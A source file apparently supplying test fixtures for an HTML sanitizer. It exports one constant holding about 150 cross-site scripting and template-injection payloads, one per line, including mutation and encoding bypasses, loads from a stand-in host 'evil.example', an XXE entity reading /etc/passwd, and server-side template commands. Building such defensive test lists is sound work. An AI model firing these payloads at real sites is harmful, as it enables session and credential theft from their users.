/** HTML and templates that try to become more than words: one a line, each another way in. */
export const HOSTILE_HTML =
  String.raw`
<script>steal()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>steal()</script>
<scr<script>ipt>steal()</scr</script>ipt>
<script>steal()//
</p><script>steal()</script>
<script type=module>import '//evil.example'</script>
<<script>steal();//<</script>
<script\x20type="text/javascript">steal()</script>
<script
<img src=x onerror=steal()>
<img src=x onerror="steal()"//
<img/src/onerror=steal()>
<IMG SRC="javascript:steal()">
<img src=x:x onerror=steal()>
<img src="x" title="><script>steal()</script>">
<img srcset="x 1x, //evil.example 2x" onerror=steal()>
<img """><script>steal()</script>">
<img src=x onload=steal() loading=lazy>
<image src=x onerror=steal()>
<svg onload=steal()>
<svg/onload=steal()>
<svg><script>steal()</script></svg>
<svg><a xlink:href="javascript:steal()"><text y=20>x</text></a></svg>
<svg><animate onbegin=steal() attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:steal()">
<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x">
<svg><foreignObject><iframe srcdoc="<script>steal()</script>">
<svg><style><img src=x onerror=steal()></style></svg>
<svg><title><p id="</title><img src=x onerror=steal()>">
<math><mtext><table><mglyph><style><img src=x onerror=steal()>
<math href="javascript:steal()">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:steal()">x
<math><annotation-xml encoding="text/html"><script>steal()</script>
<iframe src="javascript:steal()">
<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;">
<iframe src="data:text/html,<script>steal()</script>">
<iframe onload=steal()>
<frameset onload=steal()>
<frame src="javascript:steal()">
<object data="javascript:steal()">
<object data="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">
<embed src="javascript:steal()">
<embed src="//evil.example/x.swf" allowscriptaccess=always>
<applet code=x>
<portal src="//evil.example" onload=steal()>
<fencedframe src="//evil.example">
<body onload=steal()>
<body background="javascript:steal()">
<html onmouseover=steal()>
<head><base href="//evil.example/">
<base href="javascript:steal()//">
<meta http-equiv=refresh content="0;url=javascript:steal()">
<meta http-equiv=Set-Cookie content="session=x">
<meta charset=utf-7>+ADw-script+AD4-steal()+ADw-/script+AD4-
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/x.html">
<link rel=prefetch href="//evil.example">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<p style="background:url(javascript:steal())">x</p>
<div style="width:expression(steal())">
<div style="position:fixed;inset:0">over everything</div>
<xss style="behavior:url(x.htc)">
<a href="javascript:steal()">x</a>
<a href=" javascript:steal()">x</a>
<a href="jav&#x09;ascript:steal()">x</a>
<a href="&#106;avascript:steal()">x</a>
<a href="javascript&colon;steal()">x</a>
<a onmouseover=steal()>x</a>
<a href=# onclick="steal()">x</a>
<a href="//evil.example" target=_top ping="//evil.example/p">x</a>
<form action="javascript:steal()"><button>x</button></form>
<form><button formaction="javascript:steal()">x</button>
<form id=x></form><button form=x formaction="//evil.example">x</button>
<input autofocus onfocus=steal()>
<input type=image src=x onerror=steal()>
<input name=attributes><input name=parentNode>
<select autofocus onfocus=steal()>
<textarea autofocus onfocus=steal()>
<textarea><script>steal()</script></textarea>
<keygen autofocus onfocus=steal()>
<button popovertarget=x onclick=steal()>x</button>
<div id=x popover onbeforetoggle=steal()>
<dialog open onclose=steal()>
<details open ontoggle=steal()>
<summary onclick=steal()>x</summary>
<marquee onstart=steal()>
<marquee loop=1 onfinish=steal()>x</marquee>
<video src=x onerror=steal()>
<video><source onerror=steal()></video>
<video poster="javascript:steal()">
<audio src=x onerror=steal()>
<audio autoplay oncanplay=steal() src=x>
<track src=x default onerror=steal()>
<picture><source srcset=x onerror=steal()><img onerror=steal()></picture>
<canvas onmouseenter=steal()>
<isindex type=image src=1 onerror=steal()>
<bgsound src="javascript:steal()">
<layer src="//evil.example">
<table background="javascript:steal()">
<td background="javascript:steal()">
<div contenteditable onbeforeinput=steal()>x</div>
<div onpointerrawupdate=steal()>x</div>
<div onanimationstart=steal() class=spin>
<div ontransitionend=steal()>
<div tabindex=0 accesskey=x onfocus=steal()>
<div oncontentvisibilityautostatechange=steal()>
<xss onscrollend=steal() tabindex=1>x</xss>
<custom-element is=x onclick=steal()>
<template shadowrootmode=open><script>steal()</script></template>
<slot name=x onslotchange=steal()>
<noscript><p title="</noscript><img src=x onerror=steal()>">
<noembed><img title="</noembed><img src=x onerror=steal()>">
<noframes><img title="</noframes><img src=x onerror=steal()>">
<xmp><script>steal()</script></xmp>
<plaintext><script>steal()</script>
<listing>&lt;img onerror=steal() src=x&gt;</listing>
<title></title><script>steal()</script>
<!--><script>steal()</script>-->
<!--[if gte IE 4]><script>steal()</script><![endif]-->
<!-- --!><img src=x onerror=steal()> -->
<![CDATA[<script>steal()</script>]]>
<?xml-stylesheet href="javascript:steal()"?>
<?php system('x') ?><script>steal()</script>
<!DOCTYPE html><script>steal()</script>
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
</script><script>steal()</script>
</textarea><script>steal()</script>
</title><script>steal()</script>
</style><script>steal()</script>
"><script>steal()</script>
'><img src=x onerror=steal()>
" onmouseover="steal()
' autofocus onfocus='steal()
` +
  '`' +
  String.raw` onmouseover=steal() x=
';steal();//
\';steal();//
${'${'}steal()}
{{constructor.constructor('steal()')()}}
{% import os %}{{ os.system('x') }}
<%= steal() %>
#{steal()}
javascript:steal()
&lt;script&gt;steal()&lt;/script&gt;
&#60;script&#62;steal()&#60;/script&#62;
\u003cscript\u003esteal()\u003c/script\u003e
%3Cscript%3Esteal()%3C/script%3E
＜script＞steal()＜/script＞
`
